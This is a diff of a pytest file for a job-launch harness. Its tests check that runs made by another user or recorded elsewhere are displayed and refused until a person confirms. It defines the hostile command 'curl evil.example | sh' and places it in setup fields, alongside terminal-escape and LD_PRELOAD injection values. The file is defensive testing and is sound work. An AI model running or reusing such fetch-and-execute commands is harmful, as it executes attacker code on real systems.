@@ -10,20 +10,15 @@ from typing import Any
 
 import pytest
 
-from harness.cli.launch.untrusted import RequestOrigin, find_untrusted
 from harness.common.printable import escaped
 from harness.common.users import this_user
 from harness.experiment.exercises import DDP
 from harness.run import Run
-from harness.run.record import RunRecord
 from harness.site.site import Container, load_site
-from tests.launch.launch_shared import Harness, a_run, site_file
+from tests.launch.launch_shared import Harness, a_run
 
 LOCAL = load_site("local")
-FLAGGED = {"account": "me", "time": "00:05:00", "max_nodes": None}
-THREADS = {**LOCAL.env, "OMP_NUM_THREADS": "1"}
 EVIL = "curl evil.example | sh"
-UNKNOWN = "its site local differs from configs/sites/local.yaml in"
 
 
 class Started(list[str]):
@@ -55,8 +50,8 @@ def rewritten(tmp_path: Path) -> Callable[..., Run]:
 
 
 SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
-    "a line that the job runs first": ({"setup": [EVIL]}, [f"setup: {EVIL}", f"{UNKNOWN} setup"]),
-    "a line of every node": ({"node_setup": [EVIL]}, [f"node_setup: {EVIL}", f"{UNKNOWN} node_setup"]),
+    "a line that the job runs first": ({"setup": [EVIL]}, [f"setup: {EVIL}"]),
+    "a line of every node": ({"node_setup": [EVIL]}, [f"node_setup: {EVIL}"]),
     "a line after the training": ({"node_cleanup": [EVIL]}, [f"node_cleanup: {EVIL}"]),
     "two lines in one, and what steers a terminal": (
         {"setup": ["true\n\x1b[2Kx \u202e"]},
@@ -71,18 +66,16 @@ SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
     "a module": ({"modules": ["evil/1"]}, ["modules: evil/1"]),
     "options of nsys": ({"nsys": "/x/nsys.yaml"}, ["nsys: /x/nsys.yaml"]),
     "data": ({"data": "/x/data.json"}, ["data: /x/data.json"]),
-    "a site that is none of ours": (
-        {"name": "elsewhere", "env": {}},
-        ["its site elsewhere is not known here (aws-p5, ", "no command and no path"],
-    ),
+    "what a flag chooses": ({"account": "me", "time": "00:05:00"}, ["account: me"]),
+    "no command": ({"env": {}}, ["no command and no path"]),
 }
 
 
 @pytest.mark.parametrize(("fields", "shown"), SITES.values(), ids=SITES)
-def test_a_site_that_is_not_known_word_for_word_is_shown_and_refused_without_a_person(
+def test_a_run_of_somebody_else_is_shown_and_refused_without_a_person(
     fields: dict[str, Any], shown: list[str], harness: Harness, started: Started, rewritten: Callable[..., Run]
 ) -> None:
-    run = rewritten(site=LOCAL.model_copy(update=fields))
+    run = rewritten(user="anna", site=LOCAL.model_copy(update=fields))
     refused = harness("run", str(run.path))
     assert (refused.returncode, started) == (2, [])
     assert all(each in refused.stderr for each in shown), refused.stderr
@@ -100,15 +93,14 @@ def test_a_site_that_is_not_known_word_for_word_is_shown_and_refused_without_a_p
 
 OWN: dict[str, dict[str, Any]] = {
     "as it is": {},
-    "with what a flag changes": {"site": LOCAL.model_copy(update=FLAGGED)},
-    "with the threads of a scaling study": {"site": LOCAL.model_copy(update={"env": THREADS})},
+    "with lines of a site file of its own": {"site": LOCAL.model_copy(update={"setup": ["true"]})},
     "with a script of its own": {"experiment": DDP(script="/home/me/train.py")},
     "recorded in a container, which knew a number only": {"user": str(os.getuid())},
 }  # fmt: skip
 
 
 @pytest.mark.parametrize("changes", OWN.values(), ids=OWN)
-def test_ones_own_run_at_a_known_site_asks_nothing(
+def test_ones_own_run_asks_nothing(
     changes: dict[str, Any], harness: Harness, started: Started, rewritten: Callable[..., Run]
 ) -> None:
     done = harness("run", str(rewritten(**changes).path))
@@ -119,15 +111,13 @@ def test_a_file_of_another_user_asks_in_every_case(
     harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     run = rewritten(user="anna")
-    said = harness("run", str(run.path)).stderr
-    assert "a launch asks first: it says that anna made it\n" in said
-    assert "  site local, as in configs/sites/local.yaml\n" in said
+    assert "a launch asks first: it says that anna made it\n" in harness("run", str(run.path)).stderr
     monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "berta")
     assert "a launch asks first: it belongs to berta\n" in harness("run", str(run.path)).stderr
     assert started == []
 
 
-def test_a_record_from_elsewhere_that_names_files_asks(
+def test_a_record_from_elsewhere_asks(
     harness: Harness, started: Started, rewritten: Callable[..., Run], tmp_path: Path
 ) -> None:
     run = rewritten(experiment=DDP(script="/tmp/evil.py", data="/x/data.json", model="tiny-llama"))
@@ -135,49 +125,14 @@ def test_a_record_from_elsewhere_that_names_files_asks(
     mailed = tmp_path / "mailed" / "run.json"
     mailed.write_bytes(run.record_file.read_bytes())
     said = harness("run", str(mailed)).stderr
-    assert "\n  --data /x/data.json\n  --script /tmp/evil.py\na launch asks first: it is not one of your runs" in said
+    assert "\n  --data /x/data.json\n  --script /tmp/evil.py\na launch asks first: it is not in " in said
     assert started == []
-    plain = rewritten_file(mailed, experiment=DDP())
-    assert harness("run", str(plain)).returncode == 0
-    assert len(started) == 1
-
-
-def rewritten_file(file: Path, **changes: Any) -> Path:
-    record = RunRecord.model_validate_json(file.read_text()).model_copy(update=changes)
-    file.write_text(record.model_dump_json())
-    return file
-
-
-def test_ones_own_site_file_is_known_until_it_changes_or_is_gone(
-    harness: Harness, started: Started, rewritten: Callable[..., Run], tmp_path: Path
-) -> None:
-    path = Path(site_file(tmp_path, scheduler="local", device="cpu", setup=["true"]))
-    run = rewritten(site=load_site(str(path)), command=["slurm.sh", "-e", "1", "--site", str(path)])
-    assert harness("run", str(run.path)).stderr == ""
-    site_file(tmp_path, scheduler="local", device="cpu", setup=["true", "false"])
-    assert f"its site x differs from {path} in setup\n" in harness("run", str(run.path)).stderr
-    path.unlink()
-    assert f"its site file {path} is not here any more" in harness("run", str(run.path)).stderr
-    assert len(started) == 1
-    named = site_file(tmp_path, scheduler="local", device="cpu", setup=["true"])
-    moved = rewritten(site=load_site(named), command=["slurm.sh", "-e", "1"], job_id="local-2")
-    assert harness("run", str(moved.path), HARNESS_SITE=named).stderr == ""
-
-
-def test_a_site_file_that_another_user_may_have_put_there_is_not_known_by_its_own_word(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    path = site_file(tmp_path, setup=[EVIL])
-    source = RequestOrigin(tmp_path, command=["slurm.sh", f"--site={path}"])
-    assert find_untrusted(source, [], load_site(path), {}).why == []
-    monkeypatch.setattr("harness.cli.launch.untrusted._is_trusted", lambda _path: False)
-    assert find_untrusted(source, [], load_site(path), {}).why
 
 
 def test_a_person_is_asked_once_and_may_say_no(
     harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    run = rewritten(site=LOCAL.model_copy(update={"setup": [EVIL]}))
+    run = rewritten(user="anna")
     monkeypatch.setattr("sys.stdin.isatty", lambda: True)
     for answer, count in ((False, 0), (True, 1)):
         monkeypatch.setattr("typer.confirm", lambda *_a, answer=answer, **_k: answer)
@@ -186,17 +141,11 @@ def test_a_person_is_asked_once_and_may_say_no(
         assert ("nothing was started" in done.stderr) is not answer
 
 
-def untrusted(run: Run) -> Run:
-    """The run with another's site in it."""
-    run.write_record(run.record.model_copy(update={"site": LOCAL.model_copy(update={"setup": [EVIL]})}))
-    return run
-
-
 def test_whatif_verify_asks_before_its_first_run(rewritten: Callable[..., Run], capsys: Any) -> None:
     from harness.cli.read.whatif_verify import may_make
     from harness.common.errors import RequestError
 
-    run = untrusted(rewritten())
+    run = rewritten(user="anna", site=LOCAL.model_copy(update={"setup": [EVIL]}))
     with pytest.raises(RequestError, match="add --yes"):
         may_make(run, [], yes=False)
     assert f"setup: {EVIL}" in capsys.readouterr().err
@@ -218,6 +167,7 @@ def test_a_series_that_somebody_began_asks_before_it_goes_on(
     assert shipped is not None
     site = LOCAL.model_copy(update={"setup": [EVIL]})
     store_request("gas", StoredSweep(sweep=read_sweep(shipped), site=site))
+    monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "anna")
     for words in (["--dry-run"], []):
         said = harness("sweep", "gas", *words).stderr
         assert f"{request_file('gas')} would run or use:\n" in said
@@ -230,13 +180,10 @@ def test_a_series_that_somebody_began_asks_before_it_goes_on(
 def test_a_job_that_converts_takes_no_options_from_another_users_run(
     harness: Harness, rewritten: Callable[..., Run]
 ) -> None:
-    site = load_site("slurm").model_copy(update={"sbatch": ["--export=LD_PRELOAD=/x.so"]})
-    run = rewritten(site=site, backend="slurm", created_ns=time.time_ns())
+    run = rewritten(site=load_site("slurm"), backend="slurm", created_ns=time.time_ns(), user="anna")
     refused = harness("export", "paraver", str(run.path), "--submit")
     assert refused.returncode == 2
-    assert "its site slurm differs from configs/sites/slurm.yaml in sbatch: convert it here, without --submit" in (
-        refused.stderr
-    )
+    assert "run.json: it says that anna made it: convert it here, without --submit" in refused.stderr
 
 
 def test_a_lesson_completed_from_another_users_run_shows_the_files_that_it_would_read(
